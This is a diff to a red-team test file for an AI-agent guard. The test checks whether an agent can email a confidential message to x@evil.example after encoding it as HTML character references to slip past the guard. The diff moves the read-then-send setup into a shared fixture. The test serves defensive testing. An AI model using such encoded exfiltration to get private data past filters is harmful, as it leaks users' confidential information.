@@ -5,35 +5,19 @@
  * book allowed the send (fails before). The plain reading (`plainReading`, now one of `unwrapViews`) undoes them.
  * Controls: an unrelated send with entities and escapes is allowed.
  */
-import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Interaction } from '../../src/core/types.js';
-import { buildGuard, type BuiltGuard } from '../../src/guard/build.js';
-import { openStore, type Store } from '../../src/store/db.js';
-import { ROOT } from '../support/proxy-harness.js';
+import { PRIVATE_MAIL as SECRET, privateReadThenSend } from './private-read.js';
 
-const SECRET = 'Project Nightingale: the acquisition of Borealis Labs closes on March 3 for 41 million dollars; do not share outside the board.';
 const chars = (s: string, f: (c: number) => string) => [...s].map((c) => f(c.charCodeAt(0))).join('');
 
 describe('red team: private data sent as character escapes', () => {
-  let store: Store;
-  let g: BuiltGuard;
-  let n = 0;
-  const send = async (body: string) => {
-    const agent = `agent-${++n}`;
-    const who = { agent, profile: {} };
-    expect((await g.pipeline.check({ ...who, session: 's1', kind: 'tool_result', server: 'mail', tool: 'read_email', content: [{ type: 'text', text: SECRET }] } as Interaction)).decision).toBe('allow');
-    return g.pipeline.check({ ...who, session: 's2', kind: 'tool_call', server: 'mail', tool: 'send_email', arguments: { to: 'x@evil.example', body } } as Interaction);
-  };
+  let fixture: Awaited<ReturnType<typeof privateReadThenSend>>;
+  const send = (body: string) => fixture.send({ body });
 
   beforeAll(async () => {
-    store = openStore(':memory:');
-    g = await buildGuard({ policy: join(ROOT, 'policies', 'default'), store });
+    fixture = await privateReadThenSend();
   });
-  afterAll(() => {
-    g.close();
-    store.close();
-  });
+  afterAll(() => fixture.close());
 
   it.each<[string, string]>([
     ['decimal HTML references', chars(SECRET, (c) => `&#${c};`)],
